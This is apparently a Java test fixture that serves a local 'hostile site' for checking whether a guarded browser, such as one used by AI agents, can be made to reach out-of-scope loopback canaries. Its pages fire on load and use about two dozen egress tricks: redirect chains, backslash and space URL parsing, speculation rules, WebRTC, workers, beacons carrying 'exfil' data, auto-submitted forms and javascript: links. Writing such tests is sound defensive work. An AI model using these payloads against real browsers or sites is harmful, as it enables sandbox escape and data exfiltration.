package dev.skillwright.browser;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLDecoder;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Executors;

/**
 * An in-scope site that tries every way we know to make the browser reach somewhere else, with
 * four canaries to catch it: another port of 127.0.0.1, {@code localhost}, {@code [::1]} and
 * {@code 127.0.0.2}. Each vector is a page that fires on load (no click needed), so a crawl, an
 * agent's visit and a test's navigation all set it off. Close it when done.
 */
public final class HostileSite implements AutoCloseable {
  /**
   * One way out.
   *
   * @param name what the report calls it
   * @param path the page on the hostile site that fires it
   * @param canary the canary it aims at
   * @param asksTheNetwork whether a guarded browser sends anything for it at all (a WebRTC
   *     STUN probe is never made, a service worker never registers, Chromium makes no cross-site
   *     prefetch through a proxy: they are stopped before there is anything to record)
   */
  public record Vector(String name, String path, Canary canary, boolean asksTheNetwork) {}

  private final HttpServer server;
  private final List<Canary> canaries;
  private final Map<String, Vector> vectors = new LinkedHashMap<>();
  private final Map<String, String> pages = new LinkedHashMap<>();

  public HostileSite() {
    canaries = List.of(Canary.otherPort(), Canary.localhost(), Canary.ipv6(),
        Canary.otherAddress());
    try {
      server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 64);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    server.setExecutor(Executors.newFixedThreadPool(4, r -> {
      Thread t = new Thread(r, "hostile-site");
      t.setDaemon(true);
      return t;
    }));
    server.createContext("/", this::serve);
    server.start();
    define();
  }

  private Canary c(int i) {
    return canaries.get(i % canaries.size());
  }

  private void vector(String name, Canary c, boolean asks, String head, String body) {
    String path = "/v/" + name;
    vectors.put(name, new Vector(name, path, c, asks));
    pages.put(path, "<!doctype html><html><head><title>" + name + "</title>" + head
        + "</head><body><h1>" + name + "</h1>" + body + "<p><a href=\"/\">Home</a></p>"
        + "</body></html>");
  }

  private static String script(String js) {
    return "<script>" + js + "</script>";
  }

  private static String enc(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8);
  }

  private void define() {
    int i = 0;
    for (Canary c : canaries) {
      vector("redirect-chain-" + slug(c), c, true, "",
          script("setTimeout(() => location.href = '/r1?to=" + enc(c.url("/hit/chain")) + "', 50)"));
    }
    Canary c;
    c = c(i++);
    vector("meta-refresh", c, true,
        "<meta http-equiv=\"refresh\" content=\"0;url=" + c.url("/hit/meta") + "\">", "");
    c = c(i++);
    vector("location-backslash", c, true, "",
        script("setTimeout(() => location.href = '/bad-backslash?a=" + enc(c.authority()) + "', 50)"));
    c = c(i++);
    vector("location-space", c, true, "",
        script("setTimeout(() => location.href = '/bad-space?to=" + enc(c.url("/hit/sp")) + "', 50)"));
    c = c(i++);
    // Chromium makes no cross-site prefetch while a proxy is set: nothing to refuse
    vector("speculation-prefetch", c, false, "<script type=\"speculationrules\">"
        + "{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"" + c.url("/hit/spec?data=exfil-123")
        + "\"]}]}</script>", "");
    c = canaries.get(0); // prerender is for same-site pages: another port of the same host
    vector("speculation-prerender", c, true, "<script type=\"speculationrules\">"
        + "{\"prerender\":[{\"source\":\"list\",\"urls\":[\"" + c.url("/hit/prerender")
        + "\"]}]}</script>", "");
    // (rel=preconnect and rel=dns-prefetch open no socket here even without a guard: a vector
    // that cannot fire proves nothing, so they are left out)
    for (String rel : List.of("prefetch", "preload")) {
      c = c(i++);
      String extra = rel.equals("preload") ? " as=\"image\"" : "";
      vector("link-" + rel, c, true,
          "<link rel=\"" + rel + "\" href=\"" + c.url("/hit/" + rel) + "\"" + extra + ">", "");
    }
    c = canaries.get(0);
    vector("webrtc-stun", c, false, "", script("""
        const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:%s:%d'}]});
        pc.createDataChannel('x');
        pc.createOffer().then(o => pc.setLocalDescription(o));
        """.formatted(c.udpHost(), c.udpPort())));
    c = c(i++);
    vector("websocket", c, true, "",
        script("try { new WebSocket('ws://" + c.authority() + "/hit/ws'); } catch (e) {}"));
    c = c(i++);
    vector("dedicated-worker", c, true, "",
        script("new Worker('/worker.js?to=" + enc(c.url("/hit/worker")) + "');"));
    c = c(i++);
    vector("shared-worker", c, true, "",
        script("new SharedWorker('/worker.js?to=" + enc(c.url("/hit/shared")) + "');"));
    c = c(i++);
    // the context refuses service workers: the registration fails before any request
    vector("service-worker", c, false, "", script(
        "navigator.serviceWorker && navigator.serviceWorker.register('/worker.js?to="
            + enc(c.url("/hit/service")) + "').catch(() => {});"));
    c = c(i++);
    vector("iframe", c, true, "", "<iframe src=\"" + c.url("/hit/iframe") + "\"></iframe>");
    c = c(i++);
    vector("form", c, true, "", "<form id=f method=post action=\"" + c.url("/hit/form")
        + "\"><input name=q value=exfil></form>"
        + script("setTimeout(() => document.getElementById('f').submit(), 50)"));
    c = c(i++);
    vector("img", c, true, "", "<img alt=pixel src=\"" + c.url("/hit/img") + "\">");
    c = c(i++);
    vector("script", c, true, "", "<script src=\"" + c.url("/hit/script.js") + "\"></script>");
    c = c(i++);
    vector("css", c, true, "<link rel=stylesheet href=\"" + c.url("/hit/style.css") + "\">", "");
    c = c(i++);
    vector("fetch", c, true, "", script("fetch('" + c.url("/hit/fetch") + "').catch(() => {})"));
    c = c(i++);
    vector("xhr", c, true, "", script("const x = new XMLHttpRequest(); x.open('GET', '"
        + c.url("/hit/xhr") + "'); x.send();"));
    c = c(i++);
    vector("beacon", c, true, "",
        script("navigator.sendBeacon('" + c.url("/hit/beacon") + "', 'exfil')"));
    c = c(i++);
    vector("ping", c, true, "", "<a id=p href=\"#here\" ping=\"" + c.url("/hit/ping")
        + "\">ping</a>" + script("setTimeout(() => document.getElementById('p').click(), 50)"));
    c = c(i++);
    vector("popup", c, true, "", script("window.open('" + c.url("/hit/popup") + "')"));
    c = c(i++);
    vector("blob-link", c, true, "", "<a id=b>blob</a>" + script("""
        const b = document.getElementById('b');
        b.href = URL.createObjectURL(new Blob(['<img src="%s">'], {type: 'text/html'}));
        setTimeout(() => b.click(), 50);
        """.formatted(c.url("/hit/blob"))));
    c = c(i++);
    vector("javascript-link", c, true, "", "<a id=j href=\"javascript:fetch('"
        + c.url("/hit/js") + "')\">js</a>"
        + script("setTimeout(() => document.getElementById('j').click(), 50)"));
    StringBuilder home = new StringBuilder("<!doctype html><html><head><title>Hostile</title>"
        + "</head><body><h1>Hostile site</h1><ul>");
    for (Vector v : vectors.values()) {
      home.append("<li><a href=\"").append(v.path()).append("\">").append(v.name())
          .append("</a></li>");
    }
    pages.put("/", home.append("</ul></body></html>").toString());
  }

  private static String slug(Canary c) {
    return c.name().replaceAll("[^A-Za-z0-9]+", "-").replaceAll("^-|-$", "");
  }

  private void serve(HttpExchange ex) throws IOException {
    try (ex) {
      String path = ex.getRequestURI().getPath();
      String query = ex.getRequestURI().getRawQuery();
      String to = param(query, "to");
      switch (path) {
        case "/r1" -> redirect(ex, "/r2?to=" + enc(to));
        case "/r2" -> redirect(ex, to);
        // browsers read "/\host" as "//host": another origin; Java's URI cannot parse it
        case "/bad-backslash" -> redirect(ex, "/\\" + param(query, "a") + "/hit/bs");
        case "/bad-space" -> redirect(ex, to.replace("/hit/", "/hit/a b/"));
        case "/worker.js" -> send(ex, 200, "text/javascript",
            "fetch('" + to.replace("'", "") + "').catch(() => {});"
                + "self.addEventListener('install', e => e.waitUntil(fetch('"
                + to.replace("'", "") + "?install').catch(() => {})));");
        default -> {
          String html = pages.get(path);
          send(ex, html == null ? 404 : 200, "text/html; charset=utf-8",
              html == null ? "<h1>Not found</h1>" : html);
        }
      }
    }
  }

  private static String param(String query, String name) {
    if (query == null) {
      return "";
    }
    for (String kv : query.split("&")) {
      if (kv.startsWith(name + "=")) {
        return URLDecoder.decode(kv.substring(name.length() + 1), StandardCharsets.UTF_8);
      }
    }
    return "";
  }

  private static void redirect(HttpExchange ex, String location) throws IOException {
    ex.getResponseHeaders().set("Location", location);
    ex.sendResponseHeaders(302, -1);
  }

  private static void send(HttpExchange ex, int status, String type, String body)
      throws IOException {
    byte[] b = body.getBytes(StandardCharsets.UTF_8);
    ex.getResponseHeaders().set("Content-Type", type);
    ex.sendResponseHeaders(status, b.length);
    ex.getResponseBody().write(b);
  }

  public String url(String path) {
    return "http://127.0.0.1:" + server.getAddress().getPort() + path;
  }

  public List<Vector> vectors() {
    return List.copyOf(vectors.values());
  }

  public List<Canary> canaries() {
    return canaries;
  }

  /** Connections and packets seen by all canaries together. */
  public int seen() {
    return canaries.stream().mapToInt(Canary::seen).sum();
  }

  /** What each canary saw, for a failure message. */
  public String report() {
    List<String> out = new ArrayList<>();
    canaries.forEach(c -> out.add(c.toString()));
    return String.join("\n", out);
  }

  @Override
  public void close() {
    server.stop(0);
    canaries.forEach(Canary::close);
  }
}
